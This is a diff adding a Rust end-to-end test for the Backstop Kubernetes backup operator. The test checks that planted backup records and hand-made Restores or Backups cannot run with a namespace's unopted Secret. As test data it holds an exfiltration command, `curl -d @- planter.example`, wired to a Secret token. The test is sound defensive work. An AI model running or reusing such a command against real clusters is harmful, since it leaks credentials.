@@ -127,3 +127,179 @@ async fn a_namespace_that_enforces_restricted_pod_security_gets_a_reason_not_a_s
     );
     Ok(())
 }
+
+/// A volume record as a bucket writer would plant it beside an empty manifest: a stream backup
+/// of `namespace` whose recorded restore command runs their image with the namespace's Secret
+/// `victim`.
+fn plant(
+    repo_dir: &std::path::Path,
+    namespace: &str,
+    backup: &str,
+    started: &str,
+) -> anyhow::Result<()> {
+    let dir = repo_dir.join(namespace).join(backup);
+    std::fs::create_dir_all(&dir)?;
+    std::fs::write(dir.join("dump.manifest.jsonl.zst"), b"")?;
+    let evil = json!({"image": "planter.example/exfiltrate:1", "command": ["sh", "-c", "curl -d @- planter.example"],
+                      "env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "victim", "key": "token"}}}]});
+    let record = json!({
+        "version": 1, "namespace": namespace, "backup": backup, "volumes": ["dump"],
+        "startTime": started, "completionTime": started, "stream": true,
+        "strategy": {"command": {"image": "busybox", "command": ["true"], "restore": evil}},
+        "result": {"pvc": "dump", "artifact": format!("{namespace}/{backup}/dump.zst"), "bytes": 1,
+                   "digest": "0".repeat(64), "files": 1, "sourceBytes": 1}
+    });
+    std::fs::write(dir.join("dump.record.json"), serde_json::to_vec(&record)?)?;
+    Ok(())
+}
+
+/// The Failed condition's reason of Restore `name`, once it has finished.
+async fn restore_failure(ns: &TestNamespace, name: &str) -> anyhow::Result<(String, String)> {
+    let restore = finished_restore(ns, name, Duration::from_secs(90)).await?;
+    let status = restore.status.clone().unwrap_or_default();
+    assert_eq!(restore.phase(), BackupPhase::Failed, "{status:?}");
+    let failed = condition::find(&status.conditions, ConditionType::Failed)
+        .map(|c| (c.reason.clone(), c.message.clone()))
+        .unwrap_or_default();
+    Ok(failed)
+}
+
+#[tokio::test]
+#[ignore = "needs a cluster: run `make test`, or hack/cluster up + KUBECONFIG + --ignored"]
+async fn what_a_bucket_writer_or_a_backup_creator_writes_never_runs_with_the_namespaces_secrets()
+-> anyhow::Result<()> {
+    let client = cluster().await?;
+    install_operator(&client).await?;
+    let ns = TestNamespace::create(&client, "e2e-planted").await?;
+    let jobs = ns.watch_jobs().await?;
+    // A Secret its owner did not opt in for Backstop.
+    create::<k8s_openapi::api::core::v1::Secret>(
+        &ns,
+        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "victim"},
+               "stringData": {"token": "do not leak"}}),
+    )
+    .await?;
+    // Records planted in the repository before this cluster syncs it: a stream backup whose
+    // record names the planter's restore command, and one from 2099 to stay "the newest".
+    let repo_dir = ns.volume("backups", &[]).await?;
+    plant(&repo_dir, &ns.name, "planted", "2026-12-01T02:00:00Z")?;
+    plant(
+        &repo_dir,
+        &ns.name,
+        "from-the-future",
+        "2099-01-01T02:00:00Z",
+    )?;
+    create::<backstop_api::BackupRepository>(
+        &ns,
+        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "BackupRepository",
+               "metadata": {"name": "default"}, "spec": {"pvc": {"claimName": "backups"}}}),
+    )
+    .await?;
+    let imported = finished_backup(&ns, "planted", Duration::from_secs(180)).await?;
+    let status = imported.status.clone().unwrap_or_default();
+    assert_eq!(imported.phase(), BackupPhase::Completed, "{status:?}");
+    // The recorded strategy is shown...
+    let shown = status.strategy.as_ref().and_then(|s| s.command.as_ref());
+    assert_eq!(
+        shown
+            .and_then(|c| c.restore.as_ref())
+            .map(|r| r.image.as_str()),
+        Some("planter.example/exfiltrate:1")
+    );
+    let repos = ns.api::<backstop_api::BackupRepository>();
+    let message = wait_for(Duration::from_secs(60), "the sync's result", || async {
+        let repo = repos.get("default").await?;
+        let conditions = repo.status.unwrap_or_default().conditions;
+        Ok(condition::find(&conditions, ConditionType::Synced).map(|c| c.message.clone()))
+    })
+    .await?;
+    assert!(
+        message.contains("from-the-future") && message.contains("in the future"),
+        "{message}"
+    );
+    assert!(
+        ns.api::<Backup>()
+            .get_opt("from-the-future")
+            .await?
+            .is_none()
+    );
+
+    // ...and never run: without a command of the Restore's or of a live policy, it is refused.
+    create::<Restore>(
+        &ns,
+        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Restore", "metadata": {"name": "run-it"},
+               "spec": {"backupName": "planted"}}),
+    )
+    .await?;
+    let (reason, message) = restore_failure(&ns, "run-it").await?;
+    assert_eq!(reason, "NoRestoreCommand", "{message}");
+    assert!(message.contains("never run"), "{message}");
+
+    // A Restore's own command, a hand-made Backup's command: the Secret is not opted in.
+    let victim_env = json!([{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "victim", "key": "token"}}}]);
+    create::<Restore>(
+        &ns,
+        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Restore", "metadata": {"name": "exfiltrate"},
+               "spec": {"backupName": "planted",
+                        "command": {"image": "planter.example/exfiltrate:1", "command": ["sh"], "env": victim_env}}}),
+    )
+    .await?;
+    let (reason, message) = restore_failure(&ns, "exfiltrate").await?;
+    assert_eq!(reason, "SecretNotOptedIn", "{message}");
+    assert!(message.contains("kubectl label secret victim"), "{message}");
+    create::<Backup>(
+        &ns,
+        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Backup", "metadata": {"name": "dump-secrets"},
+               "spec": {"strategy": {"command": {"image": "planter.example/exfiltrate:1",
+                                                 "command": ["sh"], "env": victim_env}}}}),
+    )
+    .await?;
+    backup_failed(
+        &ns,
+        "dump-secrets",
+        "SecretNotOptedIn",
+        Duration::from_secs(60),
+    )
+    .await?;
+
+    // A Backup that would stop an application nobody opted in: refused, the application runs on.
+    create::<k8s_openapi::api::apps::v1::Deployment>(
+        &ns,
+        json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "shop"},
+               "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "shop"}},
+                        "template": {"metadata": {"labels": {"app": "shop"}},
+                                     "spec": {"containers": [{"name": "app", "image": backstop_image(),
+                                                              "imagePullPolicy": "Never", "args": ["crds"]}]}}}}),
+    )
+    .await?;
+    ns.volume("shop-data", &[("app", "shop")]).await?;
+    create::<Backup>(
+        &ns,
+        json!({"apiVersion": "backstop.dev/v1alpha1", "kind": "Backup", "metadata": {"name": "stop-shop"},
+               "spec": {"target": {"pvcSelector": {"matchLabels": {"app": "shop"}}},
+                        "strategy": {"quiesce": {"scaleDown": {"kind": "Deployment", "name": "shop"}}}}}),
+    )
+    .await?;
+    backup_failed(
+        &ns,
+        "stop-shop",
+        "QuiesceNotAllowed",
+        Duration::from_secs(60),
+    )
+    .await?;
+    let shop = ns
+        .api::<k8s_openapi::api::apps::v1::Deployment>()
+        .get("shop")
+        .await?;
+    assert_eq!(shop.spec.and_then(|s| s.replicas), Some(2), "not scaled");
+    assert!(
+        shop.metadata
+            .annotations
+            .unwrap_or_default()
+            .keys()
+            .all(|k| !k.starts_with("backstop.dev/")),
+        "not held"
+    );
+    assert_eq!(jobs.names(), Vec::<String>::new(), "no Job ran any of it");
+    Ok(())
+}
